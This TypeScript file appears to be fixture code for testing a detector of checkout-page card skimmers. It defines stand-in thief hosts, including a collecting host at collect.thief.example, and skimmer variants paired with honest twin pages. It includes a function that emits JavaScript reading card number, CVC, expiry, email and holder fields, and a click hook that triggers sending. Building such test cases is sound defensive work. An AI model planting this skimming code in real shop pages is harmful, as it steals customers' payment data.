/** Where a thief's things stand, for one stage. */
export interface ThiefHosts {
  /** Collects what is sent: `http://collect.thief.example:PORT`. */
  readonly collect: string;
  /** Serves scripts, as a content network would. */
  readonly cdn: string;
  /** A name that resembles a well-known one. */
  readonly lookAlike: string;
}

/** One way of stealing from the payment page, and an honest page that looks as much like it as can be. */
export interface SkimmerVariant {
  readonly id: string;
  /** The idea in one line. */
  readonly idea: string;
  /** Fields of which at least one must be named in an alarm; empty: it takes nothing from fields, and the check of the clipboard must tell. */
  readonly takes: readonly ('card' | 'cvc' | 'expiry' | 'email' | 'name')[];
  /** What stands in the page and what is served, with `honest` the twin's. */
  build(hosts: ThiefHosts, honest: boolean): SkimmerPage;
  /** How the alarm must name the receiver: part of a host, or words. Default: the collecting host. */
  readonly named?: (hosts: ThiefHosts) => string;
}

/** A file that may be given out to some only: to who asks in Polish, to phones, to the first or to all later requests. */
export interface ThiefFile {
  readonly type: string;
  readonly body: string | Buffer;
  readonly to?: 'language' | 'phones' | 'first' | 'again';
  /** What everybody else gets. */
  readonly others?: string;
  /** Default 200. */
  readonly status?: number;
}

/** A payment page as one of the well-known shop programs writes it. */
export interface CheckoutPage {
  /** Path and query, such as `/checkout/onepage/`. */
  readonly path: string;
  /** What stands in its body, with the form `#pay` replaced by the program's own. */
  readonly html: string;
}

export interface SkimmerPage {
  /** Default: the practice shop's own. */
  readonly checkout?: CheckoutPage;
  /** Put at the end of the payment page. */
  readonly html?: string;
  /** A script, served from the content network and named in the page. */
  readonly script?: string;
  /** A script that stands in the page itself. */
  readonly inline?: string;
  /** Further files of the content network: path → content. */
  readonly files?: Readonly<Record<string, ThiefFile>>;
  /** Further files of the shop itself. */
  readonly shopFiles?: Readonly<Record<string, ThiefFile>>;
}

/** Code of a function `take` that gives an object: what the customer typed, or with `honest` what the shop sells. */
export function takeCode(honest: boolean): string {
  return honest
    ? `function take() { return { n: 'mug-blue-4711-a', e: 'product-view', c: 'cart-2', x: document.title, h: location.pathname }; }`
    : `function take() { const v = (s) => (document.querySelector(s) || {}).value || ''; return { n: v('[name=cc_number]'), e: v('[name=email]'), c: v('[name=cc_cid]'), x: v('[name=cc_exp]'), h: v('[name=holder]') }; }`;
}

/** Runs `send()` when the customer presses the button, and when a field was left. */
export const ON_PAY = `document.addEventListener('click', (e) => { if (e.target.closest && e.target.closest('button')) send(); }, true);`;
